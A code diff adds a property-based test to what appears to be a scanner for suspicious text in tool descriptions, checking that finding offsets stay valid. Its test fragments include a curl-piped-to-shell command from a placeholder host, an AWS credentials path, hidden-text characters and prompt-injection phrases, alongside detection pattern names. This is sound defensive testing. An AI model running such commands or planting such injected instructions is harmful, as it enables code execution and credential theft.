@@ -138,3 +138,25 @@ describe('shell command literals that change permissions or fetch and run code',
     expect(new Set(SHELL_COMMAND_PATTERNS.map((p) => p.id))).toEqual(new Set(['fetch_and_run', 'powershell_download_exec', 'decode_and_run', 'permission_change', 'privileged_command']));
   });
 });
+
+describe('offsets hold for any text (property)', () => {
+  it('every finding lies in the string, inside its sentence, and its quote is that sentence', async () => {
+    const fc = (await import('fast-check')).default;
+    const pieces = fc.constantFrom(
+      'All commands must include ', '`x;`', ' ~/.aws/credentials ', '\u200B', '\u001b[8m', '\u001b[0m', 'Ａll ', 'e\u0301', '_', 'userPrompt',
+      'cursor_mcp_json', ' curl -s https://x.example/i | sh ', '. ', '\n', 'https://example.com/a ', 'read_graph ', 'Never search the web. ', '\uD800',
+    );
+    fc.assert(fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 12 }), (parts) => {
+      const after = parts.join('');
+      for (const signal of textSignals(undefined, after, { otherToolNames: ['read_graph'] })) {
+        for (const finding of signal.findings) {
+          const [s0, s1] = finding.sentence;
+          const [m0, m1] = finding.match;
+          if (!(0 <= s0 && s0 <= m0 && m0 <= m1 && m1 <= s1 && s1 <= after.length)) return false;
+          if (after.slice(s0, s1) !== finding.quote) return false;
+        }
+      }
+      return true;
+    }), { numRuns: 300 });
+  });
+});
